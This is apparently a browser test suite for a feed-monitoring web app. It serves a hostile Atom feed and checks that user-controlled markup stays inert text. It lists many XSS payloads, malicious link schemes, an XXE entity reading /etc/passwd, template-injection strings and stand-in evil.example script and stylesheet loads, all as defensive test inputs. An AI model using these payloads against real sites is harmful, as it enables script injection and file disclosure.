"""A feed written by somebody who means harm: read by the worker as any other, looked at in a real browser."""

import re
import threading
from contextlib import contextmanager
from datetime import UTC, datetime, timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlsplit
from xml.sax.saxutils import escape

import pytest
from playwright.sync_api import Page, expect

from .conftest import STRANGER
from .visiting import PHONE, until

pytestmark = [pytest.mark.browser, pytest.mark.slow]

LEA = "lea@habi.example"
WATCH = """
window.canary = () => { window.ran = true; };
window.refused = [];
addEventListener("securitypolicyviolation", event => window.refused.push(event.violatedDirective));
"""
# Whatever markup a stranger wrote must be words by now, and no link may lead anywhere but to a web page.
LOOK = """() => {
  const all = [...document.querySelectorAll("main *")];
  const away = new RegExp("evil|javascript:|data:text|vbscript:", "i");
  // A chart's links are SVG: they know neither protocol nor rel.
  const told_of = (each, name) => each.getAttribute(name) || "";
  const links = [...document.querySelectorAll("a[href]")]
    .map(each => Object.assign(new URL(told_of(each, "href"), location), {rel: told_of(each, "rel")}));
  const held = all.flatMap(each => [...each.attributes]);
  const told = name => all.filter(each => each.localName === name).map(each => each.outerHTML.slice(0, 200));
  return {
    ran: Boolean(window.ran), refused: window.refused,
    alive: "script iframe object embed style link base meta math img foreignObject".split(" ").flatMap(told),
    handlers: held.filter(each => /^on/i.test(each.name)).map(each => each.name),
    lured: held
      .filter(each => /^(hx-|action|formaction|src|srcset|poster|background|ping|xlink)/i.test(each.name))
      .filter(each => away.test(each.value)).map(each => `${each.name}=${each.value}`),
    schemes: links.map(each => each.protocol).filter(each => !/^https?:$/.test(each)),
    open: links.filter(each => each.host !== location.host && !/noopener/.test(each.rel)).map(String),
    wide: document.documentElement.scrollWidth <= innerWidth ? "" : [...document.querySelectorAll("*")]
      .filter(each => each.getBoundingClientRect().right > innerWidth + 1)
      .map(each => each.outerHTML.slice(0, 300)).at(-1),
  };
}"""
CLEAN = {"ran": False, "refused": [], "alive": [], "handlers": [], "lured": [], "schemes": [], "open": []}

MARKUP = [
    "<script>canary()</script>",
    "<img src=x onerror=canary()>",
    '"><svg onload=canary()><script>canary()</script></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=canary()&gt;">',
    "</p></main></body><script src=http://evil.example/x.js></script>",
    "<iframe srcdoc='<script>parent.canary()</script>'></iframe><object data=javascript:canary()></object>",
    "<style>@import 'http://evil.example/x.css'; * {display:none}</style><link rel=stylesheet href=//evil>",
    "<base href=http://evil.example/><meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<form action=http://evil.example><button formaction=javascript:canary()>ok</button></form>",
    "<div hx-get=http://evil.example hx-trigger=load hx-on:load=canary()>htmx</div>",
    "<a href=javascript:canary()>here</a> <a href='data:text/html,<script>canary()</script>'>there</a>",
    "<template><script>canary()</script></template><noscript><p title='</noscript><img onerror=canary()>'>",
    "{{ canary() }} {% debug %} ${canary()} #{canary()} <%= canary() %>",
    "&lt;script&gt;canary()&lt;/script&gt; &#60;script&#62;canary()&#60;/script&#62; \\u003cscript\\u003e",
    "\u202e\u2066txt.exe\u2069 \u200b\u200d Z" + "\u0301" * 60,
    "W" * 9000,
]
LINKS = [
    "javascript:canary()",
    " jAvA\tScRiPt:canary()",
    "&#106;avascript:canary()",
    "data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==",
    "vbscript:canary()",
    "file:///etc/passwd",
    'https://evil.example/" onmouseover="canary()',
    "https://evil.example/'><script>canary()</script>",
    "https://evil.example/\u202egpj.exe",
    "//evil.example/",
    "https://evil.example@127.0.0.1/",
    "https://evil.example/" + "a" * 3000,
    "blob:https://evil.example/1",
    "https://evil.example/plain",
]
NAMED = '<script>canary()</script> “Balita” "><img src=x onerror=canary()>'


def entry(number: int, at: datetime) -> str:
    """Each piece as title, author and text; a word all share, so that the rule finds them."""
    markup, link = MARKUP[number % len(MARKUP)], escape(LINKS[number % len(LINKS)], {'"': "&quot;"})
    held = escape(markup)
    return f"""<entry><id>hostile-{number}</id><updated>{at.isoformat()}</updated>
<title type="html">kanaryo {held}</title><link href="{link}"/>
<author><name>{held}</name><uri>{link}</uri></author>
<content type="html">kanaryo {number} {held} &lt;p&gt;{held}&lt;/p&gt;</content></entry>"""


def feed() -> bytes:
    at = datetime.now(UTC) - timedelta(hours=2)
    entries = "".join(entry(number, at + timedelta(minutes=number)) for number in range(len(MARKUP)))
    whole = f"""<?xml version="1.0" encoding="utf-8"?>
<!DOCTYPE feed [<!ENTITY a "kanaryo"><!ENTITY file SYSTEM "file:///etc/passwd">]>
<?xml-stylesheet href="http://evil.example/x.xsl" type="text/xsl"?>
<feed xmlns="http://www.w3.org/2005/Atom"><title>{escape(MARKUP[0])}</title>{entries}
<entry><id>entity</id><updated>{at.isoformat()}</updated><title>kanaryo</title>
<content>kanaryo &a; &file; end</content></entry></feed>"""
    return whole.encode()


class Handler(BaseHTTPRequestHandler):
    def log_message(self, *args):
        """Silence."""

    def do_GET(self):
        body = feed()
        self.send_response(200)
        self.send_header("Content-Type", "application/atom+xml")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


@contextmanager
def stranger():
    server = ThreadingHTTPServer(("127.0.0.1", urlsplit(STRANGER).port), Handler)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True)
    thread.start()
    try:
        yield
    finally:
        server.shutdown()
        server.server_close()


class Watched:
    """A page that notes every request it makes and every dialog it opens, and can be looked through."""

    def __init__(self, page: Page, url: str):
        self.page, self.strange = page, []
        host = urlsplit(url).netloc
        page.add_init_script(WATCH)
        page.on(
            "request",
            lambda asked: urlsplit(asked.url).netloc not in (host, "") and self.strange.append(asked.url),
        )
        page.on("dialog", lambda dialog: (self.strange.append(dialog.message), dialog.dismiss()))

    def look(self, path: str = "") -> None:
        """Nothing of what was written has become more than words."""
        if path:
            self.page.goto(path)
        self.page.wait_for_function("document.documentElement && document.readyState === 'complete'")
        found = self.page.evaluate(LOOK)
        wide = found.pop("wide")
        assert found == CLEAN, f"{self.page.url}: {found}"
        assert self.strange == [], f"{self.page.url}: {self.strange}"
        assert wide == "", f"{self.page.url} is too wide: {wide}"


def test_a_hostile_feed_is_only_words(stack, visitors):
    page = visitors.sign_in(LEA)
    seen = Watched(page, stack.url)
    with stranger():
        page.goto("/b/kape/rules/new/")
        page.get_by_label("Name", exact=True).fill(NAMED)
        page.locator("[name=query]").fill("kanaryo")
        page.locator("form").get_by_role("button", name="Save").first.click()
        page.wait_for_url(re.compile(r"/rules/(\d+/)?$"))
        page.goto("/b/kape/sources/add/rss/")
        page.get_by_label("Name", exact=True).fill(NAMED)
        page.get_by_label("Address of the feed").fill(f"{STRANGER}/feed")
        page.get_by_role("button", name="Try it").click()
        expect(page.locator("#sample")).to_be_visible()
        seen.look()
        page.get_by_role("button", name="Save").click()
        page.wait_for_url(re.compile(r"/sources/\d+/$"))
        source = urlsplit(page.url).path
        until(
            lambda: page.reload() and page.get_by_text("kanaryo").count(), 45, "the feed read by the worker"
        )
    seen.look()
    seen.look("/b/kape/sources/")
    look_at_mentions(seen)
    look_at_alert_and_incident(seen)
    for path in ("rules/", "trends/", "history/", "lists/", "statements/new/"):
        seen.look(f"/b/kape/{path}")
    seen.look("/b/kape/stories/")
    for path in {each.get_attribute("href") for each in page.locator("main a[href*='/stories/']").all()[:3]}:
        seen.look(path)
    seen.look("/board/")
    the_eye_is_not_blind(page)
    page.set_viewport_size(PHONE)
    for path in (source, "/b/kape/feed/", "/b/kape/feed/?q=kanaryo", "/b/kape/alerts/", "/b/kape/sources/"):
        seen.look(path)


def the_eye_is_not_blind(page: Page) -> None:
    lure = "<a href='javascript:canary()'>a</a><a href='https://evil.example/'>b</a><math></math>"
    page.evaluate("lure => document.querySelector('main').insertAdjacentHTML('beforeend', lure)", lure)
    found = page.evaluate(LOOK)
    assert (found["schemes"], len(found["open"]), len(found["alive"])) == (["javascript:"], 2, 1)


def look_at_mentions(seen: Watched) -> None:
    seen.look("/b/kape/feed/?q=kanaryo")
    expect(seen.page.locator("ol.feed > li").first).to_contain_text("kanaryo")
    links = seen.page.locator("ol.feed a[data-open]")
    paths = {urlsplit(each.get_attribute("href")).path for each in links.all()}
    paths = {path for path in paths if re.search(r"/mentions/\d+/$", path)}
    assert len(paths) >= len(MARKUP) - 2, "each of them became a mention"
    for path in paths:
        seen.look(path)
        assert "root:" not in seen.page.content()


def look_at_alert_and_incident(seen: Watched) -> None:
    page = seen.page
    seen.look("/b/kape/alerts/")
    page.locator("main").get_by_role("link", name="Balita").first.click()
    page.wait_for_url(re.compile(r"/b/kape/alerts/\d+/$"))
    seen.look()
    page.get_by_role("link", name="Open an incident").click()
    page.wait_for_url(re.compile(r"/incidents/new/"))
    seen.look()
    page.get_by_role("button", name="Open the incident").click()
    page.wait_for_url(re.compile(r"/b/kape/incidents/\d+/$"))
    seen.look()
